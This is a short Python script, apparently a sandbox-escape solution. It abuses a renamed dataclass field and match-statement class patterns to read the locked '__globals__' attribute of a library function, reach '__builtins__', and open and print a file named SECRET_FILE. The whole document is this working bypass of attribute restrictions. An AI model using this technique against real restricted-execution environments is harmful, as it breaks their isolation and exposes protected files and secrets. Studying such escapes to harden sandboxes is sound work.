# A field that calls itself otherwise gives a class pattern the word for every locked attribute.
from abc import ABC
from contextlib import ExitStack
from dataclasses import dataclass, field

def peek(thing, word):
    class Renamed(type(field())):
        @property
        def name(self): return word
        @name.setter
        def name(self, value): pass
    @dataclass(init=False, repr=False, eq=False)
    class Pattern(ABC):
        x: int = Renamed(1, None, True, True, None, True, None, False)
    Pattern.register(type(thing))
    match thing:
        case Pattern(value):
            return value

inside = peek(ExitStack.close, '__globals__')['__builtins__']
print(inside['open'](SECRET_FILE).read())
